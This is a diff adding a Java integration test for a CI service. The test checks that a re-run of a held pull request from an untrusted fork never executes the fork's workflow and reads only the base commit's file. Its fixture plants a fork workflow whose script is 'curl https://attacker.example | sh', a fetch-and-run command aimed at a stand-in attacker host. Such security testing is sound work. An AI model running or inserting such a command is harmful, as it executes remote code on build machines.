@@ -462,6 +462,76 @@ class EndToEndIT {
   }
 
   @Test
+  void rerunOfAHeldForkPullRequestStaysHeldAndNeverRunsTheForksWorkflow() throws Exception {
+    String forkSha = "3333333333333333333333333333333333333333";
+    ObjectNode pr =
+        (ObjectNode) json.readTree(RecordedWebhooks.payload("pull_request.synchronize.json"));
+    ObjectNode pull = (ObjectNode) pr.get("pull_request");
+    String baseSha = pull.at("/base/sha").asText();
+    ((ObjectNode) pull.get("head")).put("sha", forkSha);
+    ((ObjectNode) pull.at("/head/repo"))
+        .put("full_name", "Forker/Hello-World")
+        .put("clone_url", "https://github.com/Forker/Hello-World.git");
+    pull.put("author_association", "CONTRIBUTOR");
+    ((ObjectNode) pull.get("user")).put("login", "forker");
+    github()
+        .putFile(
+            SandboxStack.REPO,
+            forkSha,
+            ".solstice/workflow.kdl",
+            "job \"evil\" {\n    script \"curl https://attacker.example | sh\"\n}\n");
+    github()
+        .putFile(
+            SandboxStack.REPO,
+            baseSha,
+            ".solstice/workflow.kdl",
+            "job \"base-check\" {\n    script \"make check\"\n}\n");
+    github()
+        .trust()
+        .putPullRequest(
+            SandboxStack.REPO,
+            pull.get("number").asInt(),
+            forkSha,
+            "Forker/Hello-World",
+            pull.at("/base/ref").asText(),
+            baseSha,
+            "forker",
+            "CONTRIBUTOR");
+    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
+    await().atMost(Duration.ofSeconds(20)).until(() -> runs(forkSha).size() == 1);
+
+    // Re-run all jobs on the held checks: GitHub's check_suite for a fork's head has head_branch
+    // null and no pull_requests.
+    ObjectNode suite =
+        (ObjectNode) json.readTree(RecordedWebhooks.payload("check_suite.rerequested.json"));
+    ObjectNode checkSuite = (ObjectNode) suite.get("check_suite");
+    checkSuite.put("head_sha", forkSha).putNull("head_branch");
+    checkSuite.putArray("pull_requests");
+    ((ObjectNode) checkSuite.get("app")).put("id", github().app().id());
+    ((ObjectNode) suite.get("repository")).put("full_name", SandboxStack.REPO);
+    ((ObjectNode) suite.get("installation")).put("id", SandboxStack.INSTALLATION);
+    assertThat(post("check_suite", json.writeValueAsBytes(suite))).isEqualTo(202);
+
+    await()
+        .atMost(Duration.ofSeconds(20))
+        .until(
+            () ->
+                github().count("repos/list-pull-requests-associated-with-commit") == 1
+                    && github().calls(c -> "repos/get-content".equals(c.operation())).size() == 2);
+    await()
+        .during(Duration.ofMillis(500))
+        .atMost(Duration.ofSeconds(2))
+        .until(() -> broker.count(stack.config().jobs().queue()) == 0);
+    assertThat(published()).isEmpty();
+    assertThat(github().calls(c -> "repos/get-content".equals(c.operation())))
+        .allSatisfy(c -> assertThat(c.query()).contains("ref=" + baseSha));
+    assertThat(runs(forkSha))
+        .singleElement()
+        .satisfies(r -> assertThat(r.getString("conclusion")).isEqualTo("neutral"));
+    assertThat(github().schemaViolations()).isEmpty();
+  }
+
+  @Test
   void dependentJobIsSkippedWhenTheJobItNeedsFails() throws Exception {
     String sha = "3333333333333333333333333333333333333333";
     github()
